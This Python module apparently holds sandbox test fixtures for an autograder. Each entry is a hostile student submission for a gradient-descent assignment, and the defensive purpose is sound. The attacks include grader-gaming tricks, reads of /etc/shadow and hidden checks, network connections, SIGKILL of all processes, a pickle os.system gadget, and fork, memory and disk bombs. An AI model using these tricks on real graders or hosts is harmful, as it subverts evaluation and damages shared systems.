"""Attack notebooks: each replaces solution cells of ps2-descent with hostile code.

Every attack targets graded names that must earn 0. Attacks that try to *leak*
something return ``1000 + n`` where ``n`` counts what they got (files read,
connections made, grader processes seen, ...); the test asserts the feedback
shows exactly ``1000``, i.e. nothing leaked. Placeholders in the code:
``{marker}`` (unique per run, to find stray files and processes; placeholders are
replaced literally, so other braces in the code are plain Python), ``{port}``
(a TCP listener on the host's loopback), ``{unix}`` (a unix socket in the
host's /tmp), ``{repo}`` (this repository), ``{course}`` (where the honest
student's submission and the results live), ``{canary}`` (a file a pickle
gadget would create if anything unpickled it).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from autograder.sandbox.isolation import Level


@dataclass(frozen=True)
class Attack:
    """One hostile submission."""

    id: str
    what: str
    cells: dict[str, str]  # grade_id → replacement code
    targets: tuple[str, ...] = ("grad_descent",)
    leak_probe: bool = False  # returns 1000 + number of successes
    min_level: Level = Level.PROCESS  # too dangerous for the host below this level
    metadata: dict = field(default_factory=dict)  # notebook tampering, see the test


GD = "def grad_descent(x_start, n, delta=0.1):\n"
RIGHT_GD = (
    "import math\n" + GD + "    x = float(x_start)\n    for _ in range(n):\n"
    "        x = x - delta * (x - math.exp(-x))\n    return x\n"
)

ATTACKS: list[Attack] = [
    Attack(
        "allclose-monkeypatch",
        "redefine torch.allclose/numpy.allclose/math.isclose and Tensor.__eq__ to always agree",
        {
            "grad_descent": (
                "import math, numpy, torch\n"
                "torch.allclose = lambda *a, **k: True\nnumpy.allclose = lambda *a, **k: True\n"
                "math.isclose = lambda *a, **k: True\ntorch.Tensor.__eq__ = lambda s, o: True\n"
                + GD
                + "    return 0.0\n"
            )
        },
    ),
    Attack(
        "always-equal-object",
        "return an object equal to anything",
        {
            "grad_descent": (
                "class Anything(float):\n    def __eq__(self, other): return True\n"
                "    def __ne__(self, other): return False\n    __hash__ = float.__hash__\n"
                + GD
                + "    return Anything(0.0)\n"
            )
        },
    ),
    Attack(
        "torch-function-subclass",
        "a tensor subclass whose __torch_function__ answers every comparison with True",
        {
            "gradient_descent": (
                "import torch\n"
                "class Liar(torch.Tensor):\n"
                "    @classmethod\n"
                "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
                "        name = getattr(func, '__name__', '')\n"
                "        if name in ('allclose', 'equal', 'eq', '__eq__', 'isclose'):\n"
                "            return True\n"
                "        return super().__torch_function__(func, types, args, kwargs or {})\n"
                "def gradient_descent(f, x0, lr, steps):\n"
                "    return torch.zeros_like(x0).as_subclass(Liar)\n"
            )
        },
        targets=("gradient_descent",),
    ),
    Attack(
        "sys-exit-in-cell",
        "sys.exit() before the definition",
        {"grad_descent": ("import sys\nsys.exit(0)\n" + RIGHT_GD)},
    ),
    Attack(
        "os-exit-in-call",
        "os._exit() when called, to kill the worker mid-check",
        {"grad_descent": "import os\n" + GD + "    os._exit(0)\n"},
    ),
    Attack(
        "atexit-forgery",
        "an atexit handler that prints a perfect score and writes a results.json",
        {
            "grad_descent": (
                "import atexit, json, os\n"
                "def forge():\n"
                "    fake = json.dumps({'score': 100, 'tests': []})\n"
                "    print(fake)\n"
                "    for p in ['results.json', '/tmp/results.json', '{course}/results.json']:\n"
                "        try:\n            open(p, 'w').write(fake)\n        except OSError:\n"
                "            pass\n"
                "atexit.register(forge)\n" + GD + "    return 0.0\n"
            )
        },
    ),
    Attack(
        "stack-inspection",
        "walk the call stack for the expected value",
        {
            "grad_descent": (
                "import inspect\n" + GD + "    for frame in inspect.stack():\n"
                "        for value in frame.frame.f_locals.values():\n"
                "            if isinstance(value, float) and 0.5 < value < 0.6:\n"
                "                return value\n"
                "    return 0.0\n"
            )
        },
    ),
    Attack(
        "gc-inspection",
        "search every live object for the expected value",
        {
            "grad_descent": (
                "import gc\n" + GD + "    for obj in gc.get_objects():\n"
                "        if isinstance(obj, dict):\n"
                "            for v in list(obj.values())[:50]:\n"
                "                if isinstance(v, float) and abs(v - 0.5671432904) < 1e-6:\n"
                "                    return v\n"
                "    return 0.0\n"
            )
        },
    ),
    Attack(
        "read-checks-from-disk",
        "read the hidden checks and references",
        {
            "grad_descent": (
                "import glob, importlib.util, os\n" + GD + "    found = 0\n"
                "    for path in ['{repo}/autograder/assignments/ps2_descent/checks.py',\n"
                "                 '{repo}/autograder/assignments/ps2_descent/reference.py']:\n"
                "        try:\n            found += len(open(path).read()) > 0\n"
                "        except OSError:\n            pass\n"
                "    for mod in ['autograder.checks',\n"
                "                'autograder.assignments.ps2_descent.reference']:\n"
                "        try:\n            found += importlib.util.find_spec(mod) is not None\n"
                "        except Exception:\n            pass\n"
                "    found += len(glob.glob('/*/*/autograder/checks/*.py'))\n"
                "    found += len(glob.glob('/*/*/autograder/assignments/*/checks.py'))\n"
                "    return 1000.0 + found\n"
            )
        },
        leak_probe=True,
        min_level=Level.USERNS,
    ),
    Attack(
        "read-secrets",
        "read the gradebook, other submissions and the instructor's home",
        {
            "grad_descent": (
                "import os\n" + GD + "    got = 0\n"
                "    for path in ['{course}/gradebook.db', '{course}/honest/descent.ipynb',\n"
                "                 os.path.expanduser('~root/.bashrc'), '/root/.bashrc',\n"
                "                 '/etc/shadow', '{repo}/nbgrader_config.py']:\n"
                "        try:\n            got += len(open(path, 'rb').read(10)) > 0\n"
                "        except OSError:\n            pass\n"
                "    return 1000.0 + got\n"
            )
        },
        leak_probe=True,
        min_level=Level.USERNS,
    ),
    Attack(
        "forge-results-files",
        "write results files wherever a grader might read them",
        {
            "grad_descent": (
                "import json, os\n" + GD + "    fake = json.dumps({'score': 100})\n    wrote = 0\n"
                "    for p in ['{course}/results.json', '{course}/attacker/results.json',\n"
                "              '{repo}/results.json', '/autograder/results/results.json',\n"
                "              '/tmp/{marker}-results.json']:\n"
                "        try:\n            os.makedirs(os.path.dirname(p), exist_ok=True)\n"
                "            open(p, 'w').write(fake)\n            wrote += 1\n"
                "        except OSError:\n            pass\n"
                "    return 0.0\n"
            )
        },
        min_level=Level.USERNS,
    ),
    Attack(
        "network-tcp",
        "connect to a service on the host's loopback and to the internet",
        {
            "grad_descent": (
                "import socket\n" + GD + "    ok = 0\n"
                "    for addr in [('127.0.0.1', {port}), ('1.1.1.1', 53)]:\n"
                "        s = socket.socket()\n        s.settimeout(1)\n"
                "        try:\n            s.connect(addr)\n            s.sendall(b'{marker}')\n"
                "            ok += 1\n        except OSError:\n            pass\n"
                "    return 1000.0 + ok\n"
            )
        },
        leak_probe=True,
        min_level=Level.USERNS,
    ),
    Attack(
        "network-unix-socket",
        "connect to a unix socket of the host in /tmp",
        {
            "grad_descent": (
                "import socket\n"
                + GD
                + "    s = socket.socket(socket.AF_UNIX)\n    s.settimeout(1)\n"
                "    try:\n        s.connect('{unix}')\n        s.sendall(b'{marker}')\n"
                "        return 1001.0\n    except OSError:\n        return 1000.0\n"
            )
        },
        leak_probe=True,
        min_level=Level.USERNS,
    ),
    Attack(
        "memory-bomb",
        "allocate 64 GiB",
        {"grad_descent": (GD + "    hog = bytearray(64 * 1024**3)\n    return 0.0\n")},
    ),
    Attack(
        "fork-bomb",
        "fork until the system runs out of processes",
        {
            "grad_descent": (
                "import os, time\n" + GD + "    for _ in range(10000):\n"
                "        try:\n            pid = os.fork()\n"
                "        except OSError:\n            break\n"
                "        if pid == 0:\n            time.sleep(600)\n            os._exit(0)\n"
                "    return 0.0\n"
            )
        },
        min_level=Level.USERNS,
    ),
    Attack(
        "thread-bomb",
        "start ten thousand threads",
        {
            "grad_descent": (
                "import threading, time\n" + GD + "    for _ in range(10000):\n"
                "        try:\n"
                "            t = threading.Thread(target=time.sleep, args=(600,), daemon=True)\n"
                "            t.start()\n"
                "        except RuntimeError:\n            break\n"
                "    return 0.0\n"
            )
        },
        min_level=Level.USERNS,
    ),
    Attack(
        "output-bomb",
        "print 100 MB and return a 100 MB string",
        {"grad_descent": (GD + "    print('x' * 100_000_000)\n    return 'y' * 100_000_000\n")},
    ),
    Attack(
        "file-size-bomb",
        "write a 1 GiB file into the scratch",
        {
            "grad_descent": (
                GD + "    with open('big.bin', 'wb') as fh:\n"
                "        for _ in range(1024):\n            fh.write(b'\\0' * 1024**2)\n"
                "    return 0.0\n"
            )
        },
    ),
    Attack(
        "infinite-loop-cell",
        "an endless loop in the cell itself",
        {"grad_descent": ("while True:\n    pass\n" + RIGHT_GD)},
    ),
    Attack(
        "sleep-in-call",
        "sleep for a day when called",
        {"grad_descent": ("import time\n" + GD + "    time.sleep(86400)\n")},
    ),
    Attack(
        "signal-the-grader",
        "SIGKILL the parent, the process group and every process",
        {
            "grad_descent": (
                "import os, signal\n" + GD + "    for target in (os.getppid(), 0, -1):\n"
                "        try:\n            os.kill(target, signal.SIGKILL)\n"
                "        except OSError:\n            pass\n"
                "    return 0.0\n"
            )
        },
        min_level=Level.USERNS,
    ),
    Attack(
        "proc-inspection",
        "read other processes' command lines and environments",
        {
            "grad_descent": (
                "import os\n" + GD + "    seen = 0\n"
                "    for pid in os.listdir('/proc'):\n"
                "        if pid.isdigit() and int(pid) != os.getpid():\n"
                "            try:\n"
                "                text = open(f'/proc/{pid}/cmdline', 'rb').read()\n"
                "                text += open(f'/proc/{pid}/environ', 'rb').read()\n"
                "                seen += b'pytest' in text or b'autograder grade' in text\n"
                "            except OSError:\n                pass\n"
                "    return 1000.0 + seen\n"
            )
        },
        leak_probe=True,
        min_level=Level.USERNS,
    ),
    Attack(
        "pickle-payload",
        "return pickled bytes and a __reduce__ gadget",
        {
            "grad_descent": (
                "import os, pickle\n"
                "class Gadget:\n"
                "    def __reduce__(self):\n"
                "        return (os.system, ('touch {canary}',))\n"
                + GD
                + "    return pickle.dumps(Gadget())\n"
            ),
            "GOOD_DELTA": (
                "import os\nclass Gadget:\n    def __reduce__(self):\n"
                "        return (os.system, ('touch {canary}',))\nGOOD_DELTA = Gadget()\n"
            ),
        },
        targets=("grad_descent", "GOOD_DELTA"),
    ),
    Attack(
        "forged-frame-array-bomb",
        "write a forged reply claiming a 10^10-element tensor",
        {
            "grad_descent": (
                "import json, os, struct, sys\n" + GD + "    fd = int(sys.argv[2])\n"
                "    frame = json.dumps({'id': 0, 'ok': True, 'value': {'__tensor__': 'AAAA',"
                " 'dtype': 'float64', 'shape': [100000, 100000], 'device': 'cpu'}}).encode()\n"
                "    os.write(fd, struct.pack('>I', len(frame)) + frame)\n"
                "    os.write(fd, struct.pack('>I', 2**31) + b'{')\n"
                "    return 0.0\n"
            )
        },
    ),
    Attack("nan-output", "return NaN", {"grad_descent": GD + "    return float('nan')\n"}),
    Attack(
        "html-in-output",
        "HTML and script tags in an error message",
        {
            "grad_descent": (
                GD + "    raise ValueError('<script>alert(1)</script><b>100/100</b>')\n"
            )
        },
    ),
    Attack(
        "module-shadowing",
        "torch.py, numpy.py, sitecustomize.py and conftest.py that "
        "would pass everything if imported",
        {
            "grad_descent": (
                "import importlib, os\n"
                "evil = 'import builtins\\nbuiltins.__dict__[\"__import__\"] = None\\n'\n"
                "cheat = 'import pytest\\n@pytest.fixture(autouse=True)\\n"
                "def cheat():\\n    pytest.skip()\\n'\n"
                "for d in ['.', '/tmp', '{course}']:\n"
                "    for name in ['torch.py', 'numpy.py', 'sitecustomize.py']:\n"
                "        try:\n            open(os.path.join(d, name), 'w').write(evil)\n"
                "        except OSError:\n            pass\n"
                "    try:\n        open(os.path.join(d, 'conftest.py'), 'w').write(cheat)\n"
                "    except OSError:\n        pass\n"
                "importlib.invalidate_caches()\nimport torch\n" + GD + "    return 0.0\n"
            )
        },
        min_level=Level.USERNS,
    ),
    Attack(
        "metadata-tampering",
        "points raised to 100, test cells duplicated, renamed and "
        "deleted, outputs pre-filled with full marks",
        {"grad_descent": GD + "    return 0.0\n"},
        metadata={
            "points": 100,
            "duplicate": "test_grad_descent",
            "delete": "test_GOOD_DELTA",
            "rename": "test_STEPS_SCALED",
            "prefill": True,
        },
    ),
]


# --------------------------------------------------------------------------- storage
#: Host-side cap of what any one storage attack may take (the issue's target).
STORAGE_HOST_CAP_MIB = 512
#: What a storage attack tries to take at most, so that a broken defence is caught by the
#: test's host-side assertion (twice the cap) without harming a shared host much.
STORAGE_TRY_MIB = 1024
#: The written amount comes back as grad_descent's (wrong) answer: MiB, or files for the
#: attack on the number of files; the test reads it from the feedback.
REPORT = GD + "    return float(WRITTEN)\n"
FILL = (
    "import os\n"
    f"def _fill(folder, cap_mib={STORAGE_TRY_MIB}, file_mib=32):\n"
    "    block, written, n = b'\\1' * (1 << 20), 0, 0\n"
    "    try:\n"
    "        while written < cap_mib << 20:  # files under the 64 MiB file-size limit\n"
    "            with open(os.path.join(folder, f'fill-{n}'), 'wb', buffering=0) as fh:\n"
    "                for _ in range(file_mib):\n"
    "                    written += fh.write(block)\n"
    "            n += 1\n"
    "    except OSError:\n"
    "        pass  # stopped: by a disk limit, it is hoped\n"
    "    return written >> 20\n"
)


def _fill_attack(name: str, folder: str, what: str) -> Attack:
    return Attack(
        name,
        what,
        {"grad_descent": FILL + f"WRITTEN = _fill({folder})\n" + REPORT},
        min_level=Level.USERNS,  # level process writes to the host's own disk (SECURITY.md)
    )


STORAGE_ATTACKS: list[Attack] = [
    _fill_attack("fill-tmp", "'/tmp'", "32 MiB files into /tmp until stopped"),
    _fill_attack("fill-dev-shm", "'/dev/shm'", "32 MiB files into /dev/shm until stopped"),
    _fill_attack("fill-home", "os.path.expanduser('~')", "32 MiB files into $HOME"),
    _fill_attack("fill-cwd", "os.getcwd()", "32 MiB files into the working directory"),
    Attack(
        "many-small-files",
        "a million empty files (each costs an inode, whatever its size)",
        {
            "grad_descent": (
                "import os\nWRITTEN = 0\n"
                "try:\n"
                "    for d in range(1000):\n"
                "        os.makedirs(f'many/{d}', exist_ok=True)\n"
                "        for f in range(1000):\n"
                "            open(f'many/{d}/{f}', 'w').close()\n"
                "            WRITTEN += 1\n"
                "except OSError:\n    pass\n" + REPORT
            )
        },
        min_level=Level.USERNS,
    ),
    Attack(
        "sparse-files",
        "one sparse file of a TiB, then 63 MiB sparse files given real blocks (fallocate)",
        {
            "grad_descent": (
                "import os\nWRITTEN = 0\n"
                "fd = os.open('sparse', os.O_WRONLY | os.O_CREAT, 0o600)\n"
                "for grow in (lambda: os.ftruncate(fd, 1 << 40),\n"
                "             lambda: (os.lseek(fd, 1 << 40, 0), os.write(fd, b'x'))):\n"
                "    try:\n        grow()\n    except OSError:\n        pass  # file size limit\n"
                "os.close(fd)\n"
                "try:\n"
                f"    for n in range({STORAGE_TRY_MIB // 63 + 1}):\n"
                "        fd = os.open(f'sparse-{n}', os.O_WRONLY | os.O_CREAT, 0o600)\n"
                "        os.ftruncate(fd, 63 << 20)\n"
                "        os.posix_fallocate(fd, 0, 63 << 20)\n"
                "        WRITTEN += 63\n"
                "        os.close(fd)\n"
                "except OSError:\n    pass\n" + REPORT
            )
        },
        min_level=Level.USERNS,
    ),
    Attack(
        "disk-limit-message",
        "fill the working directory without catching the error: the message names the limit",
        {
            "grad_descent": FILL
            + "WRITTEN = _fill('.')\nopen('more', 'wb').write(b'x' * (64 << 20))\n"
        },
        min_level=Level.USERNS,
    ),
]

#: Memory that no rlimit sees: pages of a memfd (written, never mapped) and of System V
#: shared memory (detached, they stay): capped by the submission's memory cgroup (and the
#: System V caps at level full), so these run only where it has one.
MEMORY_ATTACKS: list[Attack] = [
    Attack(
        "memfd-fill",
        "memfd_create files, written and never mapped, until stopped",
        {
            "grad_descent": (
                "import os\nWRITTEN, fds = 0, []\nblock = b'\\1' * (1 << 20)\n"
                "try:\n"
                "    while WRITTEN < 3072:\n"
                "        fds.append(os.memfd_create('x'))\n"
                "        for _ in range(32):\n"
                "            os.write(fds[-1], block)\n"
                "            WRITTEN += 1\n"
                "except OSError:\n    pass\n" + REPORT
            )
        },
        min_level=Level.USERNS,
    ),
    Attack(
        "sysv-shm-fill",
        "System V shared memory segments, filled and detached, until stopped",
        {
            "grad_descent": (
                "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                "libc.shmat.restype = ctypes.c_void_p\n"
                "libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]\n"
                "WRITTEN = 0\n"
                "while WRITTEN < 3072:\n"
                "    key = libc.shmget(0, ctypes.c_size_t(64 << 20), 0o1600)\n"
                "    if key < 0:\n        break\n"
                "    addr = libc.shmat(key, None, 0)\n"
                "    if addr in (None, ctypes.c_void_p(-1).value):\n        break\n"
                "    ctypes.memset(addr, 1, 64 << 20)\n"
                "    libc.shmdt(ctypes.c_void_p(addr))\n"
                "    WRITTEN += 64\n" + REPORT
            )
        },
        min_level=Level.FULL,  # (at userns only a memory cgroup caps it: see SECURITY.md)
    ),
]
